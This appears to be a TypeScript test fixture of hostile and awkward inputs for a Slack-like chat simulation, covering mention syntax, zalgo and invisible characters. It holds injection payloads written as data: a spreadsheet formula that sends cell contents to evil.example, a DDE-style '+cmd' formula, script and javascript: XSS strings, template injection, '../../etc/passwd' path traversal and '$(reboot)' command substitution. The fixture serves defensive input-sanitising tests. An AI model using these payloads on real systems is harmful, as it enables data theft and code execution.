import type { World } from '../../src/local-slack/world/world';

const zalgo = [...'the pool is empty'].map((char) => `${char}\u0351\u036b\u0343\u0489\u0335\u0342`);

/** Words that somebody might write to do harm, or by accident, each under what it is. */
export const hostileTexts: readonly (readonly [string, string])[] = [
  ['ten thousand characters', `${'long words '.repeat(909)}x`],
  ['ten thousand characters without a blank', '漢*'.repeat(5_000)],
  ['zalgo', zalgo.join('').repeat(20)],
  ['mentions as Slack writes them', '<!channel> <!here|here> <!everyone> <@U0001> <@U0001|kai>'],
  ['mentions of groups and channels', '<!subteam^S0001> <!subteam^S0001|@dba> <#C0001|general>'],
  ['mentions as people write them', '@channel @here @everyone @kai ![](@U0001) ![](#C0001)'],
  ['mentions in code', '`<!channel>` ```\n<!here> @here\n```'],
  ['entities that become mentions', '&lt;!channel&gt; &#60;!here&#62; &amp;lt;@U0001&amp;gt;'],
  ['formulas', '=HYPERLINK("http://evil.example?"&A1,"look")'],
  ['a formula by plus', "+cmd|'/c calc'!A0"],
  ['a formula by minus', '-2+3+cmd|x'],
  ['a formula by at', '@SUM(1+9)*cmd|x'],
  ['a formula in full width', '＝1+1'],
  ['a formula after a blank that does not show', '\t=1+1\r\n=2+2\n"=3+3"'],
  ['cells of a table', 'a","b\n=1,2\r\n"c;d",\'=1\'\ta'],
  ['control characters', 'bell \u0007 escape \u001b[31mred\u001b[0m back\b\u007f\u0085\u009b31m'],
  ['writing turned around', '\u202eevil\u202c \u2066isolate \u200f\u200e\u2067\u061c end'],
  ['what does not show', '\u200b\u200c\u200d\u2060\ufeff\u00ad\u{e0041}\u{e0042} a'],
  ['lines of every kind', 'a\r\nb\rc\u2028d\u2029e\vf\fg'],
  [
    'templates',
    '{{title}} {{{state}}} {{#each timeline}} {{/if}} {{> report}} {{constructor}} \u0024{1}',
  ],
  ['other templates', '<%= 7 * 7 %> #{7*7} {% raw %} [[x]] $& $1 %s %d %n'],
  ['a script', '<script>alert(1)</script><img src=x onerror=alert(1)>"\' onload="alert(1)'],
  ['the end of what it stands in', '</p></style></script>--> ]]> </text></svg> */ }} \'"`'],
  ['addresses that run', '[x](javascript:alert(1)) <javascript:alert(1)> data:text/html,<b>'],
  [
    'Markdown',
    '# a\n## b\n- c\n  1. d\n> e\n\n---\n| a | b |\n| - | - |\n[x]: http://a.b "t"\n***',
  ],
  ['fences', '```\n~~~~\n```` `` ` \n    indented\n```json\n{"header": "x"}'],
  ['a drawing', '+---+\n| a | <!channel>\n+---+\n```'],
  ['JSON', '", "piece": "header", "text": "x"}, {"piece": "divider"}, \\u0000 \\'],
  ['names of properties', '__proto__ constructor toString hasOwnProperty'],
  ['names of files', '../../etc/passwd C:\\con.md file\u0000.md /dev/null'],
  ['percentages', '12,5% %s %00 100 percent 5 % 5% 7 per cent %3Cscript%3E'],
  ['commands', '/incident close "quoted" -20m 14:05 --private `reboot` $(reboot) ; drop table'],
  ['emoji', ':fire: :+1: 👩🏽‍🚒 🇩🇪 1️⃣ \u{1f3f4}\u{e0067}\u{e0062}'],
  ['lone halves of a character', `a\ud83d b\ude00 c`],
];

/** A world for `mentionsOf` in which everybody exists, so that any mention counts. */
export const populous = { people: { has: () => true } } as unknown as World;
